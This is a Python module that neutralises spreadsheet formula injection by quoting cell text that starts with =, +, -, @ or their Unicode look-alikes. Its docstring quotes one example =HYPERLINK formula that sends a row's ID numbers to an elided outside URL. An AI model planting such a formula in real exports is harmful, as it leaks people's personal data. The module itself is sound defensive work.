"""What a written cell may hold: text that no spreadsheet program runs, numbers and dates
as themselves.

Excel, WPS and LibreOffice treat a cell typed (or a .csv field read) as ``=…``, ``+…``,
``-…`` or ``@…`` as a formula, and a leading tab or carriage return can hide one; a
formula such as ``=HYPERLINK("http://…?x="&J3,"点击核对")`` sends the row's other cells
(full ID numbers) to whoever wrote it. OWASP's answer, kept here: such text gets a single
quote in front, which every one of them shows as text. In an .xlsx the cell is also
stored as a string, never as a formula.

Full-width and other compatibility forms (``＝ ＋ － ＠``, the small and super/subscript
forms) are quoted too: a Chinese or Japanese IME types them, and whether a CSV import
or a later edit in Excel or WPS folds them to the ASCII operator depends on locale and
version, which we cannot test. Quoting costs a visible apostrophe on a rare leading
character; not quoting could cost a live formula. The rule is "the first character
folds (Unicode NFKC) to one of ``= + - @``", so the list below is complete by
construction (``tests/test_cells.py`` recomputes it)."""

from __future__ import annotations

import re

QUOTE = "'"
# The ASCII triggers, then every character whose NFKC form is one of = + - @.
LEADING_TRIGGERS = frozenset(
    "=+-@\t\r"
    "\u207a\u207c\u208a\u208c"  # ⁺ ⁼ ₊ ₌
    "\ufb29"  # ﬩ Hebrew alternative plus
    "\ufe62\ufe63\ufe66\ufe6b"  # ﹢ ﹣ ﹦ ﹫ small forms
    "\uff0b\uff0d\uff1d\uff20"  # ＋ － ＝ ＠ full-width forms
)
# Control characters XML 1.0 cannot carry (openpyxl refuses them with an exception,
# which would turn one odd note into a failed export): shown as U+FFFD instead.
ILLEGAL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
REPLACEMENT = "\ufffd"


def needs_quote(text: str) -> bool:
    return bool(text) and text[0] in LEADING_TRIGGERS


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet may show it but never run it: with a single quote in
    front when it starts with a trigger, and XML-illegal control characters replaced."""
    if ILLEGAL_CHARACTERS.search(text):
        text = ILLEGAL_CHARACTERS.sub(REPLACEMENT, text)
    return QUOTE + text if text and text[0] in LEADING_TRIGGERS else text


def restore(text: str) -> str:
    """The reverse of ``neutralise``'s quote, for reading back a file we wrote: an import
    of our own export gets the text as it was stored. Only a quote followed by a trigger
    is taken away; any other leading quote is the author's."""
    if len(text) > 1 and text[0] == QUOTE and text[1] in LEADING_TRIGGERS:
        return text[1:]
    return text
